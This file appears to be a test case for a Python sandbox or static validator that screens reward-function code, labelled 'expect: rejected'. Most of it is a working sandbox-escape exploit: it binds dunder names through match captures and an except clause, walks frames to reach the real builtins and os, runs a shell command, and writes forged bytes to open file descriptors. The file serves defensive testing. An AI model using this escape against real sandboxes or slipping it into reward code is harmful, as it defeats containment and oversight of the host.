"""The issue's chain: match captures and `as` bind dunder names in a class body, metaclass= runs a program function
on that namespace, ABC.register makes the class a virtual Sequence; when trusted code converts the returned value
it calls the captured methods, which walk to the real builtins and write forged frames on every descriptor."""
# class: class-machinery
# expect: rejected
# static-reason: 'except ... as' binds the dunder name '__cause__'
import typing


def length(self):
    forge()
    return 1


def item(self, i):
    return 0.0


def forge():
    def walk():
        frame = gen.gi_frame
        while frame.f_back is not None:
            frame = frame.f_back
        yield frame.f_builtins["__import__"]("os")

    gen = walk()
    os = next(gen)
    os.system("touch @SENTINEL@/w04")
    for fd in range(1, 20):
        try:
            os.write(fd, b"\xff\xff\xff\x7f" + b"{" * 64)
        except OSError:
            pass


def keep(name, bases, namespace):
    return namespace


class Rows:
    match length, item:
        case (__len__, __getitem__):
            pass


Hooks = None
try:
    raise ValueError("x")
except ValueError as __cause__:
    Hooks = keep("Hooks", (), {"__len__": length})

typing.Sequence.register(Rows)


def compute_reward(obs, action, next_obs, info):
    return Rows(), {}
